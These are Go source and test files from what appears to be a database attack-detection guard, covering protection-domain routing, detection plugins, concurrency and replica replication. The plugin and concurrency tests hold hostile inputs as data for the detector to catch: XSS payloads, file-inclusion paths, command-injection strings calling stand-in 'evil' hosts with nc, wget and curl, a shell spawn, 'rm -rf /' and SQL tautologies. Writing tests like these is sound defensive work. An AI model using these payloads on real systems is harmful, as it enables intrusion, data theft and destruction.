	if _, err := db.Exec("CREATE TABLE c (body TEXT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("INSERT INTO c (body) VALUES ('seed')"); err != nil {
		t.Fatal(err)
	}
	guard.SetConfig(Config{Mode: ModeDetection, DetectStored: true, IncrementalLearning: false})
	if _, err := db.Exec("INSERT INTO c (body) VALUES ('<script>x</script>')"); err != nil {
		t.Fatalf("detection mode must execute: %v", err)
	}
	res, err := db.Exec("SELECT COUNT(*) FROM c")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0].I != 2 {
		t.Errorf("row count = %v, want 2 (the payload landed)", res.Rows[0][0])
	}
	attacksLogged := guard.Logger().Attacks()
	if len(attacksLogged) != 1 || attacksLogged[0].Kind != EventAttackDetected {
		t.Errorf("events = %v", attacksLogged)
	}
}

// TestPluginChainOrder: the first confirming plugin wins; earlier
// plugins that filter but do not confirm fall through to later ones.
func TestPluginChainOrder(t *testing.T) {
	det := NewDetector(DefaultPlugins())
	// Contains '<' (XSS filter fires) but is not active HTML; contains a
	// traversal that file-inclusion confirms.
	qs := stackWithString(t, "a < b ../../etc/passwd")
	d, attack := det.DetectStored(insertStmt(t), qs)
	if !attack {
		t.Fatal("attack not confirmed")
	}
	if d.Plugin != "file-inclusion" {
		t.Errorf("plugin = %s, want file-inclusion (XSS must fall through)", d.Plugin)
	}
}
