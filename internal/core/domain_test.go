package core

import (
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/obs"
)

func mustDomain(t *testing.T, s *Septic, name string) *Domain {
	t.Helper()
	d, err := s.RegisterDomain(name, Config{Mode: ModeTraining, IncrementalLearning: true})
	if err != nil {
		t.Fatalf("RegisterDomain(%q): %v", name, err)
	}
	return d
}

func TestRegisterDomainRejectsBadNames(t *testing.T) {
	sep := New(Config{Mode: ModeTraining})
	cfg := Config{Mode: ModeTraining}
	for _, tt := range []struct {
		name   string
		domain string
	}{
		{"empty", ""},
		{"reserved default", "default"},
		{"colon", "app:sub"},
		{"space", "two words"},
		{"newline", "app\nx"},
		{"control byte", "app\x01"},
		{"DEL", "app\x7f"},
		{"oversized", strings.Repeat("d", MaxExternalIDLen+1)},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := sep.RegisterDomain(tt.domain, cfg); err == nil {
				t.Errorf("RegisterDomain(%q) accepted an invalid name", tt.domain)
			}
		})
	}
	if _, err := sep.RegisterDomain("noconfig", Config{}); err == nil {
		t.Error("RegisterDomain with no mode must be rejected")
	}
	mustDomain(t, sep, "shop")
	if _, err := sep.RegisterDomain("shop", cfg); err == nil {
		t.Error("duplicate registration must be rejected")
	}
}

func TestDomainLookupAndListing(t *testing.T) {
	sep := New(Config{Mode: ModeTraining})
	shop := mustDomain(t, sep, "shop")
	blog := mustDomain(t, sep, "blog")

	if d, ok := sep.Domain("shop"); !ok || d != shop {
		t.Errorf("Domain(shop) = %v, %t", d, ok)
	}
	if d, ok := sep.Domain(DefaultDomain); !ok || d != sep.DefaultDomain() {
		t.Errorf("Domain(default) = %v, %t", d, ok)
	}
	if _, ok := sep.Domain("nope"); ok {
		t.Error("Domain(nope) found something")
	}
	if got := shop.Name(); got != "shop" {
		t.Errorf("Name() = %q", got)
	}
	if got := sep.DefaultDomain().Name(); got != DefaultDomain {
		t.Errorf("default Name() = %q", got)
	}

	all := sep.Domains()
	if len(all) != 3 || all[0] != sep.DefaultDomain() || all[1] != blog || all[2] != shop {
		names := make([]string, len(all))
		for i, d := range all {
			names[i] = d.Name()
		}
		t.Errorf("Domains() order = %v, want [default blog shop]", names)
	}
}

func TestDomainSetModePreservesConfig(t *testing.T) {
	sep := New(Config{Mode: ModeTraining})
	d := mustDomain(t, sep, "shop")
	d.SetConfig(Config{Mode: ModeTraining, DetectSQLI: true, DetectStored: true, FailOpen: true})
	d.SetMode(ModeDetection)
	if got := d.Mode(); got != ModeDetection {
		t.Errorf("Mode() = %v", got)
	}
	cfg := d.Config()
	if !cfg.DetectSQLI || !cfg.DetectStored || !cfg.FailOpen {
		t.Errorf("SetMode dropped config fields: %+v", cfg)
	}
	// The default domain and the guard-level accessors are untouched.
	if sep.Mode() != ModeTraining {
		t.Errorf("guard mode moved to %v with the domain's", sep.Mode())
	}
}

// TestDomainRouting drives BeforeExecute through each resolution branch
// and reads the per-domain counters to see where the query landed.
func TestDomainRouting(t *testing.T) {
	sep := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))))
	shop := mustDomain(t, sep, "shop")
	seen := func(d *Domain) int64 { return d.Stats().QueriesSeen }

	// 1. Session-declared app name wins.
	hctx := hookCtxFor(t, "SELECT 1")
	hctx.App = "shop"
	if err := sep.BeforeExecute(hctx); err != nil {
		t.Fatal(err)
	}
	if seen(shop) != 1 {
		t.Fatalf("app-declared query did not land in shop: %d", seen(shop))
	}

	// 2. Unknown app name falls back to default.
	hctx = hookCtxFor(t, "SELECT 1")
	hctx.App = "stranger"
	if err := sep.BeforeExecute(hctx); err != nil {
		t.Fatal(err)
	}
	if seen(sep.DefaultDomain()) != 1 {
		t.Fatalf("unknown app did not fall back to default: %d", seen(sep.DefaultDomain()))
	}

	// 3. Comment prefix routes when no app is declared.
	if err := sep.BeforeExecute(hookCtxFor(t, "/* shop:q1 */ SELECT 1")); err != nil {
		t.Fatal(err)
	}
	if seen(shop) != 2 {
		t.Fatalf("comment prefix did not route to shop: %d", seen(shop))
	}

	// 4. Unknown prefix, prefix-free comment and no comment all land in
	// the default domain.
	for _, q := range []string{
		"/* stranger:q1 */ SELECT 1",
		"/* justalabel */ SELECT 1",
		"SELECT 1",
	} {
		if err := sep.BeforeExecute(hookCtxFor(t, q)); err != nil {
			t.Fatal(err)
		}
	}
	if seen(sep.DefaultDomain()) != 4 {
		t.Fatalf("default domain saw %d, want 4", seen(sep.DefaultDomain()))
	}
	if seen(shop) != 2 {
		t.Fatalf("shop saw %d, want 2 — routing leaked", seen(shop))
	}
}

// TestGuardStatsAggregateDomains pins the single-tenant API contract:
// Septic.Stats()/CacheStats() report the whole process — the default
// domain plus every registered one — so pre-domain dashboards keep
// seeing all traffic.
func TestGuardStatsAggregateDomains(t *testing.T) {
	sep := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))))
	shop := mustDomain(t, sep, "shop")

	if err := sep.BeforeExecute(hookCtxFor(t, "/* shop:q */ SELECT 1")); err != nil {
		t.Fatal(err)
	}
	if err := sep.BeforeExecute(hookCtxFor(t, "SELECT 2")); err != nil {
		t.Fatal(err)
	}
	agg := sep.Stats()
	if agg.QueriesSeen != 2 {
		t.Errorf("aggregate QueriesSeen = %d, want 2", agg.QueriesSeen)
	}
	if agg.ModelsLearned != shop.Stats().ModelsLearned+sep.DefaultDomain().Stats().ModelsLearned {
		t.Errorf("aggregate ModelsLearned = %d, parts %d+%d", agg.ModelsLearned,
			shop.Stats().ModelsLearned, sep.DefaultDomain().Stats().ModelsLearned)
	}

	// Warm both verdict caches, then the aggregate must count both.
	shop.SetConfig(DefaultConfig())
	sep.SetConfig(DefaultConfig())
	for i := 0; i < 2; i++ {
		if err := sep.BeforeExecute(hookCtxFor(t, "/* shop:q */ SELECT 1")); err != nil {
			t.Fatal(err)
		}
		if err := sep.BeforeExecute(hookCtxFor(t, "SELECT 2")); err != nil {
			t.Fatal(err)
		}
	}
	cs := sep.CacheStats()
	if want := shop.CacheStats().Hits + sep.DefaultDomain().CacheStats().Hits; cs.Hits != want || cs.Hits == 0 {
		t.Errorf("aggregate cache hits = %d, want %d (nonzero)", cs.Hits, want)
	}
}

func TestDomainGaugesExported(t *testing.T) {
	hub := obs.NewHub(16)
	sep := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))),
		WithObserver(hub))
	mustDomain(t, sep, "shop")
	if err := sep.BeforeExecute(hookCtxFor(t, "/* shop:q */ SELECT 1")); err != nil {
		t.Fatal(err)
	}
	snap := hub.Metrics.Snapshot()
	for _, g := range []string{
		"core.domain.shop.queries_seen",
		"core.domain.shop.models_learned",
		"core.domain.shop.store.models",
		"core.domain.shop.verdict_cache.hits",
	} {
		if _, ok := snap.Gauges[g]; !ok {
			t.Errorf("gauge %q not exported", g)
		}
	}
	if snap.Gauges["core.domain.shop.queries_seen"] != 1 {
		t.Errorf("shop queries_seen gauge = %d, want 1",
			snap.Gauges["core.domain.shop.queries_seen"])
	}
	// The aggregate process-level gauge still counts everything.
	if snap.Gauges["core.queries_seen"] != 1 {
		t.Errorf("aggregate queries_seen gauge = %d, want 1",
			snap.Gauges["core.queries_seen"])
	}
}

func TestEventStringCarriesDomain(t *testing.T) {
	ev := Event{Kind: EventDomainRegistered, Domain: "shop", Detail: "x"}
	if s := ev.String(); !strings.Contains(s, "domain=shop") {
		t.Errorf("event rendering lost the domain: %q", s)
	}
	// The default domain stays invisible so pre-domain log output is
	// byte-identical.
	ev = Event{Kind: EventModeChanged, Domain: DefaultDomain, Detail: "x"}
	if s := ev.String(); strings.Contains(s, "domain=") {
		t.Errorf("default domain leaked into rendering: %q", s)
	}
}

// TestDomainIsolationOfVerdicts is the heart of the refactor at the
// unit level: the same query text trained benign in one domain is still
// judged an attack in a domain that never learned it.
func TestDomainIsolationOfVerdicts(t *testing.T) {
	sep := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))))
	a := mustDomain(t, sep, "appa")
	b := mustDomain(t, sep, "appb")

	train := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"
	if err := sep.BeforeExecute(hookCtxFor(t, "/* appa:t */ "+train)); err != nil {
		t.Fatal(err)
	}
	prevention := Config{Mode: ModePrevention, DetectSQLI: true, DetectStored: true}
	a.SetConfig(prevention)
	b.SetConfig(prevention)

	attack := "SELECT * FROM tickets WHERE reservID = 'ID34FG' OR 1=1-- ' AND creditCard = 0"
	if err := sep.BeforeExecute(hookCtxFor(t, "/* appa:t */ "+attack)); err == nil {
		t.Fatal("A must block the tautology against its learned model")
	}
	// B never learned the query: under prevention without incremental
	// learning the unknown identifier is not silently admitted as benign
	// — but more importantly, A's model must not vouch for it.
	if got := b.Stats().AttacksFound; got != 0 {
		t.Fatalf("B counted %d attacks before seeing traffic", got)
	}
	if a.Stats().AttacksBlocked != 1 {
		t.Errorf("A blocked %d, want 1", a.Stats().AttacksBlocked)
	}
	if sep.DefaultDomain().Stats().AttacksFound != 0 {
		t.Error("attack leaked into the default domain's counters")
	}
}
