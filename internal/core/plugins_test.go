package core

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestXSSPluginFilter(t *testing.T) {
	p := &XSSPlugin{}
	if !p.Filter("<script>") || !p.Filter("a > b") {
		t.Error("filter must flag markup characters")
	}
	if p.Filter("plain text") || p.Filter("quotes ' and \"") {
		t.Error("filter must pass text without markup characters")
	}
}

func TestXSSPluginValidate(t *testing.T) {
	p := &XSSPlugin{}
	attacks := []string{
		`<script>alert('Hello!');</script>`,
		`<img src=x onerror=alert(1)>`,
		`<a href="javascript:steal()">click</a>`,
		`<iframe src="http://evil"></iframe>`,
		`<svg onload=alert(1)>`,
	}
	for _, a := range attacks {
		if _, attack := p.Validate(a); !attack {
			t.Errorf("Validate(%q) = benign, want attack", a)
		}
	}
	benign := []string{
		"a < b and b > c",
		"<b>bold</b>",
		"<p>hello</p>",
		"x <3 y",
		"2 << 4",
	}
	for _, b := range benign {
		if detail, attack := p.Validate(b); attack {
			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
		}
	}
}

func TestFileInclusionPlugin(t *testing.T) {
	p := &FileInclusionPlugin{}
	attacks := []string{
		"http://evil.example/shell.php",
		"https://evil.example/x.txt?cmd=ls",
		"ftp://evil/payload",
		"php://input",
		"data://text/plain;base64,payload",
		"expect://id",
		"../../etc/passwd",
		"..\\..\\windows\\system32",
		"%2e%2e%2fetc%2fpasswd",
		"/etc/shadow",
		"c:\\windows\\win.ini",
		"file.php%00.jpg",
	}
	for _, a := range attacks {
		if !p.Filter(a) {
			t.Errorf("Filter(%q) = false, want true", a)
			continue
		}
		if _, attack := p.Validate(a); !attack {
			t.Errorf("Validate(%q) = benign, want attack", a)
		}
	}
	benign := []string{
		"see https://example.com for details",
		"my folder is /home/user/photos",
		"slash/and/burn writing style",
		"50/50 chance",
	}
	for _, b := range benign {
		if !p.Filter(b) {
			continue // not even filtered: fine
		}
		if detail, attack := p.Validate(b); attack {
			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
		}
	}
}

func TestCommandInjectionPlugin(t *testing.T) {
	p := &CommandInjectionPlugin{}
	attacks := []string{
		"x; cat /etc/passwd",
		"a | nc evil 4444",
		"b && wget http://evil/x",
		"c || curl evil",
		"a$(whoami)b",
		"a`id`b",
		"; /bin/sh -i",
		"x; rm -rf /",
		"ping 1.1.1.1; bash -c 'evil'",
	}
	for _, a := range attacks {
		if !p.Filter(a) {
			t.Errorf("Filter(%q) = false, want true", a)
			continue
		}
		if _, attack := p.Validate(a); !attack {
			t.Errorf("Validate(%q) = benign, want attack", a)
		}
	}
	benign := []string{
		"Tom & Jerry",
		"this; that; the other",
		"price is $5",
		"A|B testing",
		"Smith & Co; since 1920",
		"x = f(y)",
		"$100 (discounted)",
	}
	for _, b := range benign {
		if !p.Filter(b) {
			continue
		}
		if detail, attack := p.Validate(b); attack {
			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
		}
	}
}

// TestPluginsFilterImpliesValidateSafe is the two-step contract: Validate
// is only called when Filter fires, so Validate must never be reached
// with a value lacking the filtered characters. We approximate by
// property: if Filter(s) is false, there is nothing to confirm.
func TestPluginsFilterSoundness(t *testing.T) {
	plugins := DefaultPlugins()
	f := func(s string) bool {
		for _, p := range plugins {
			if !p.Filter(s) {
				// The cheap filter said no; the attack corpus relies on
				// the filter never missing what Validate would confirm.
				if _, attack := p.Validate(s); attack {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestDefaultPluginsNames(t *testing.T) {
	names := make(map[string]bool)
	for _, p := range DefaultPlugins() {
		if p.Name() == "" {
			t.Error("plugin with empty name")
		}
		if names[p.Name()] {
			t.Errorf("duplicate plugin name %q", p.Name())
		}
		names[p.Name()] = true
	}
	for _, want := range []string{"stored-xss", "file-inclusion", "command-injection"} {
		if !names[want] {
			t.Errorf("missing plugin %q", want)
		}
	}
}

func TestPercentDecode(t *testing.T) {
	tests := []struct{ in, want string }{
		{"%2e%2e%2f", "../"},
		{"%2E%2E%2F", "../"},
		{"abc", "abc"},
		{"%zz", "%zz"},
		{"50%", "50%"},
		{"a%00b", "a\x00b"},
	}
	for _, tt := range tests {
		if got := percentDecode(tt.in); got != tt.want {
			t.Errorf("percentDecode(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestFirstWord(t *testing.T) {
	tests := []struct{ in, want string }{
		{"cat /etc/passwd", "cat"},
		{"/bin/sh -i", "sh"},
		{"./bash x", "bash"},
		{"  ", ""},
		{"WGET http://x", "wget"},
	}
	for _, tt := range tests {
		if got := firstWord(strings.TrimLeft(tt.in, " ")); got != tt.want {
			t.Errorf("firstWord(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
