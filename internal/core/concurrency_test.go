package core

import (
	"errors"
	"sync"
	"testing"

	"github.com/septic-db/septic/internal/engine"
)

// TestConcurrentSessionsCountersExact hammers one SEPTIC-hooked DB from
// many concurrent sessions with a mixed benign/attack workload and
// asserts that every counter — SEPTIC's Stats and the engine's — sums
// exactly. Run under -race this is the correctness proof of the
// contention-free hot path: the atomic config snapshot, the lock-free
// stat counters, the sharded COW store and the per-table engine locks
// all have to agree on every one of the N×M×3 queries.
func TestConcurrentSessionsCountersExact(t *testing.T) {
	const (
		sessions   = 8
		iterations = 200
	)

	db := engine.New()
	schema := []string{
		"CREATE TABLE users (name TEXT, pass TEXT)",
		"CREATE TABLE logs (id INT PRIMARY KEY AUTO_INCREMENT, msg TEXT)",
	}
	for _, q := range schema {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := db.Exec("INSERT INTO users (name, pass) VALUES ('ann', 'pw')"); err != nil {
		t.Fatal(err)
	}
	seeded := len(schema) + 1 // statements executed before the hook exists

	guard := New(Config{Mode: ModeTraining})
	db.SetHook(guard)

	// Training: one model per benign query shape.
	training := []string{
		"/* q-users */ SELECT pass FROM users WHERE name = 'ann'",
		"/* q-logs */ INSERT INTO logs (msg) VALUES ('routine maintenance note')",
	}
	for _, q := range training {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}

	// Incremental learning off: the workload is closed, so counters are
	// exactly predictable — unknown shapes would otherwise learn models
	// mid-flight and make AttacksFound racy.
	guard.SetConfig(Config{
		Mode: ModePrevention, DetectSQLI: true, DetectStored: true,
	})

	const (
		benignSelect = "/* q-users */ SELECT pass FROM users WHERE name = 'ann'"
		benignInsert = "/* q-logs */ INSERT INTO logs (msg) VALUES ('routine maintenance note')"
		attack       = "/* q-users */ SELECT pass FROM users WHERE name = 'ann' OR 1=1-- '"
	)

	var wg sync.WaitGroup
	failures := make(chan error, sessions)
	for s := 0; s < sessions; s++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < iterations; i++ {
				if _, err := db.Exec(benignSelect); err != nil {
					failures <- err
					return
				}
				if _, err := db.Exec(benignInsert); err != nil {
					failures <- err
					return
				}
				if _, err := db.Exec(attack); !errors.Is(err, engine.ErrQueryBlocked) {
					failures <- errors.New("attack was not blocked")
					return
				}
			}
		}()
	}
	wg.Wait()
	close(failures)
	for err := range failures {
		t.Fatal(err)
	}

	attacks := int64(sessions * iterations)
	benign := int64(sessions * iterations * 2)

	stats := guard.Stats()
	if want := int64(len(training)) + benign + attacks; stats.QueriesSeen != want {
		t.Errorf("QueriesSeen = %d, want %d", stats.QueriesSeen, want)
	}
	if stats.ModelsLearned != int64(len(training)) {
		t.Errorf("ModelsLearned = %d, want %d", stats.ModelsLearned, len(training))
	}
	if stats.AttacksFound != attacks {
		t.Errorf("AttacksFound = %d, want %d", stats.AttacksFound, attacks)
	}
	if stats.AttacksBlocked != attacks {
		t.Errorf("AttacksBlocked = %d, want %d", stats.AttacksBlocked, attacks)
	}

	es := db.Stats()
	if want := int64(seeded+len(training)) + benign; es.Executed != want {
		t.Errorf("engine Executed = %d, want %d", es.Executed, want)
	}
	if es.Blocked != attacks {
		t.Errorf("engine Blocked = %d, want %d", es.Blocked, attacks)
	}
	if es.Failed != 0 {
		t.Errorf("engine Failed = %d, want 0", es.Failed)
	}
	if got, want := es.Executed+es.Blocked+es.Failed,
		int64(seeded+len(training))+benign+attacks; got != want {
		t.Errorf("engine counter sum = %d, want %d (every query accounted once)", got, want)
	}

	// The engine survived the stampede intact: every insert landed
	// (one from training plus one per session iteration).
	res, err := db.Exec("/* q-count */ SELECT COUNT(*) FROM logs")
	if err == nil && len(res.Rows) == 1 {
		if n, want := res.Rows[0][0].AsInt(), benign/2+1; n != int64(want) {
			t.Errorf("logs rows = %d, want %d", n, want)
		}
	}
}

// TestConcurrentAdminAndTraffic interleaves hot-path traffic with the
// control plane: config flips, admin review of the store, persistence
// snapshots. Nothing here asserts counts — the point is that -race and
// the store's COW invariants hold while readers and writers overlap.
func TestConcurrentAdminAndTraffic(t *testing.T) {
	guard := New(DefaultConfig())
	db := engine.New(engine.WithQueryHook(guard))
	for _, q := range []string{
		"CREATE TABLE t (id INT PRIMARY KEY, v TEXT)",
		"INSERT INTO t (id, v) VALUES (1, 'x')",
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}

	stop := make(chan struct{})
	var wg sync.WaitGroup
	for s := 0; s < 4; s++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				_, _ = db.Exec("SELECT v FROM t WHERE id = 1")
			}
		}()
	}
	adminDone := make(chan struct{})
	path := t.TempDir() + "/models.json"
	go func() {
		defer close(adminDone)
		for i := 0; i < 50; i++ {
			guard.SetMode(ModeDetection)
			guard.SetMode(ModePrevention)
			guard.SetConfig(DefaultConfig())
			_ = guard.Store().UsageReport()
			for _, id := range guard.Store().PendingReview() {
				guard.Store().Approve(id)
			}
			if err := guard.Store().Save(path); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	<-adminDone
	close(stop)
	wg.Wait()
}
