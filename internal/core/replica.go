package core

import (
	"encoding/json"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"

	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/obs"
)

// This file is the replica side of WAL-shipped model replication: a
// read-replica Septic boots from a primary's streamed snapshot, catches
// up by replaying WAL records, then follows the live tail — serving
// detection-mode reads the whole time while refusing local training
// writes. The transport lives in internal/repl; this file owns the
// apply path, because applying a replicated record is exactly the WAL
// replay the persistence layer already performs at boot (applyRecord /
// loadCheckpoint), just arriving over a socket instead of from disk.
//
// Consistency model: a record is acknowledged on the PRIMARY once its
// local WAL append returns under the primary's fsync policy; replicas
// learn about it strictly afterwards (the WAL watcher fires only after
// a successful append). Replication is therefore asynchronous: an acked
// write is eventually applied on every connected replica, and at
// quiescence primary and replica stores are identical per domain — the
// invariant the convergence and chaos suites assert — but a read served
// by a replica mid-stream may be arbitrarily stale. Staleness is
// observable as repl.lag_seq.

// ErrReadOnly is returned for mutations refused on a replica: training
// writes, incremental learning, administrator store edits. They must go
// to the primary; the replica's stores are owned by the replication
// applier.
var ErrReadOnly = errors.New("septic: replica is read-only")

// ReplConnState is the replica's connection lifecycle, exported as the
// repl.state gauge.
type ReplConnState int64

// Connection states, in the order a healthy session moves through them.
const (
	// ReplDisconnected: no session (initial state, or between retries).
	ReplDisconnected ReplConnState = iota
	// ReplConnecting: dialing / handshaking.
	ReplConnecting
	// ReplSyncing: installing a snapshot or replaying catch-up batches.
	ReplSyncing
	// ReplStreaming: following the live tail.
	ReplStreaming
	// ReplPromoted: failover hook fired; this node is a primary now.
	ReplPromoted
)

// String names the state the way the status display does.
func (s ReplConnState) String() string {
	switch s {
	case ReplDisconnected:
		return "disconnected"
	case ReplConnecting:
		return "connecting"
	case ReplSyncing:
		return "syncing"
	case ReplStreaming:
		return "streaming"
	case ReplPromoted:
		return "promoted"
	default:
		return fmt.Sprintf("ReplConnState(%d)", int64(s))
	}
}

// ReplicaStats snapshots the apply-path counters; the same numbers are
// exported on /metrics as repl.*.
type ReplicaStats struct {
	// AppliedSeq is the last upstream sequence applied (or covered by an
	// installed snapshot).
	AppliedSeq uint64
	// SourceSeq is the newest sequence the primary has reported
	// (heartbeats and batches); AppliedSeq lags it.
	SourceSeq uint64
	// LagSeq = SourceSeq - AppliedSeq, clamped at zero.
	LagSeq uint64
	// AppliedRecords counts records applied (not snapshots).
	AppliedRecords int64
	// Snapshots counts snapshot installs; SnapshotBytes their total size.
	Snapshots     int64
	SnapshotBytes int64
	// DuplicateSeqs counts records skipped because their sequence was
	// already applied — the expected overlap after a resume.
	DuplicateSeqs int64
	// Skipped counts records that decoded but could not be routed
	// (unknown domain/op, fingerprint mismatch) — mirrored after
	// PersistenceStats.RecoveredSkipped.
	Skipped int64
	// ApplyErrors counts local durability appends that failed (the
	// record is still applied in memory; the durable resume floor just
	// does not advance past it).
	ApplyErrors int64
	// State is the connection lifecycle gauge.
	State ReplConnState
	// Promoted reports the failover hook has fired.
	Promoted bool
}

// ReplicaState is the apply side of a read replica, created by
// Septic.AttachReplicaSource. The transport (internal/repl.Replica)
// feeds it snapshots and records; everything it applies flows through
// the same replay paths boot recovery uses, so fingerprint verification,
// idempotent deduplication and verdict-cache invalidation (generation
// bumps) come for free. All methods are safe for concurrent use; applies
// are serialized by an internal mutex.
type ReplicaState struct {
	sep *Septic

	// mu serializes ApplySnapshot and ApplyRecord: the stream is ordered
	// and the applied counter must advance with the applies.
	mu sync.Mutex

	applied   atomic.Uint64
	sourceSeq atomic.Uint64
	state     atomic.Int64
	promoted  atomic.Bool

	appliedRecords atomic.Int64
	snapshots      atomic.Int64
	snapshotBytes  atomic.Int64
	duplicateSeqs  atomic.Int64
	skipped        atomic.Int64
	applyErrors    atomic.Int64
}

// AttachReplicaSource puts this Septic into replica mode: every
// protection domain's store (current and future) becomes read-only for
// local mutations, training-mode and incremental-learning writes return
// ErrReadOnly from the hook, and the returned ReplicaState accepts the
// replication stream. Attach AFTER registering domains and attaching
// persistence (if any — a replica with local persistence resumes from
// Persistence.ReplAppliedSeq instead of re-requesting the snapshot), and
// BEFORE serving traffic.
func (s *Septic) AttachReplicaSource() (*ReplicaState, error) {
	s.regMu.Lock()
	defer s.regMu.Unlock()
	if s.replicaState != nil {
		return nil, fmt.Errorf("replica source already attached")
	}
	rs := &ReplicaState{sep: s}
	if s.persist != nil {
		rs.applied.Store(s.persist.ReplAppliedSeq())
	}
	s.replica.Store(true)
	for _, d := range s.Domains() {
		d.store.setReadOnly(true)
	}
	s.replicaState = rs
	if s.obs != nil {
		rs.registerGauges(s.obs.Metrics)
	}
	s.logger.Log(Event{Kind: EventModeChanged,
		Detail: fmt.Sprintf("replica mode: stores read-only, resuming after seq %d", rs.applied.Load())})
	return rs, nil
}

// ReplicaState returns the attached replica apply state, nil on a
// primary.
func (s *Septic) ReplicaState() *ReplicaState { return s.replicaState }

// IsReplica reports whether this Septic is in (unpromoted) replica mode.
func (s *Septic) IsReplica() bool { return s.replica.Load() }

// ApplySnapshot installs a primary's full-state snapshot: the payload is
// a checkpointFile (the primary's ReplSnapshot built it), decoded,
// verified and restored through the same path boot recovery uses.
// barrier is the WAL sequence the snapshot covers; the applied position
// moves there — backward too, the primary's history is authoritative. On
// a replica with local persistence the installed state is checkpointed
// locally before the position advances: the snapshot's records are not
// in the local WAL, so a crash after acknowledging it must find the
// state in the local checkpoint or the restart would resume past a hole.
// A failed local checkpoint therefore fails the apply — the session dies
// and the next attempt re-requests the snapshot.
func (rs *ReplicaState) ApplySnapshot(barrier uint64, data []byte) error {
	rs.mu.Lock()
	defer rs.mu.Unlock()
	faultinject.Hit(faultinject.SiteReplSnapshot)
	if rs.promoted.Load() {
		return fmt.Errorf("replica promoted, stream refused")
	}
	var cp checkpointFile
	if err := json.Unmarshal(data, &cp); err != nil {
		return fmt.Errorf("replica: decode snapshot: %w", err)
	}
	if cp.Version != checkpointVersion {
		return fmt.Errorf("replica: snapshot version %d unsupported (want %d)",
			cp.Version, checkpointVersion)
	}
	for name, dom := range cp.Domains {
		d, ok := rs.sep.Domain(name)
		if !ok {
			rs.skipped.Add(1)
			continue
		}
		if err := verifySets(dom.Sets); err != nil {
			return fmt.Errorf("replica: snapshot domain %q: %w", name, err)
		}
		d.store.restoreSets(dom.Sets)
		if cfg, ok := dom.Config.toConfig(); ok {
			d.replayConfig(cfg)
		}
	}
	rs.snapshots.Add(1)
	rs.snapshotBytes.Add(int64(len(data)))
	if p := rs.sep.persist; p != nil {
		p.replSeq.Store(barrier)
		if err := p.Checkpoint(); err != nil {
			return fmt.Errorf("replica: persist snapshot: %w", err)
		}
	}
	rs.applied.Store(barrier)
	rs.observeSeq(barrier)
	if rs.sep.obs != nil {
		rs.sep.obs.Publish(obs.Event{Kind: obs.KindWAL,
			Detail: fmt.Sprintf("replication snapshot installed (%d bytes, barrier seq %d)", len(data), barrier)})
	}
	return nil
}

// ApplyRecord applies one replicated WAL record. seq is the record's
// upstream sequence; a sequence at or below the applied position is
// skipped — the duplicate-delivery case a resume boundary produces (the
// replica re-subscribes after its last durable position, which may be
// behind what it already applied in memory) — making application
// idempotent end to end. Undecodable or unroutable records are counted
// and skipped but still advance the position, exactly like boot replay:
// recovery must converge on the applicable subset.
//
// Apply order is memory first, then the best-effort local WAL append
// (tagged with RSeq for the durable resume floor). Memory-first keeps
// the local checkpoint barrier argument intact — any record in the
// local log is already visible to a snapshotting checkpointer — and a
// crash between the two only loses local caching: the upstream resends
// from the durable floor and the duplicate check absorbs the overlap.
func (rs *ReplicaState) ApplyRecord(seq uint64, data []byte) error {
	rs.mu.Lock()
	defer rs.mu.Unlock()
	faultinject.Hit(faultinject.SiteReplApply)
	if rs.promoted.Load() {
		return fmt.Errorf("replica promoted, stream refused")
	}
	if seq <= rs.applied.Load() {
		rs.duplicateSeqs.Add(1)
		rs.observeSeq(seq)
		return nil
	}
	var rec walRecord
	if err := json.Unmarshal(data, &rec); err != nil {
		rs.skipped.Add(1)
		rs.applied.Store(seq)
		rs.observeSeq(seq)
		return nil
	}
	applied := false
	if d, ok := rs.sep.Domain(rec.Dom); ok {
		switch rec.Op {
		case opPut:
			if rec.Model != nil && rec.Model.Fingerprint() == rec.Sum {
				d.store.replayPut(rec.ID, *rec.Model, rec.Inc)
				applied = true
			}
		case opDelete:
			d.store.replayDelete(rec.ID)
			applied = true
		case opApprove:
			d.store.replayApprove(rec.ID)
			applied = true
		case opConfig:
			if rec.Cfg != nil {
				if cfg, ok := rec.Cfg.toConfig(); ok {
					d.replayConfig(cfg)
					applied = true
				}
			}
		}
	}
	if applied {
		rs.appliedRecords.Add(1)
	} else {
		rs.skipped.Add(1)
	}
	if p := rs.sep.persist; p != nil {
		rec.RSeq = seq
		if err := p.append(rec.Dom, &rec); err != nil {
			// Counted (here and by the persistence layer); the memory
			// apply stands. The durable floor simply stays behind, so a
			// restart re-fetches this record — and the duplicate check
			// absorbs it.
			rs.applyErrors.Add(1)
		} else if seq > p.replSeq.Load() {
			// Applies are serialized by rs.mu; load-then-store is safe.
			p.replSeq.Store(seq)
		}
	}
	rs.applied.Store(seq)
	rs.observeSeq(seq)
	return nil
}

// AppliedSeq is the last upstream sequence applied or covered by a
// snapshot — what the transport resumes the subscription from.
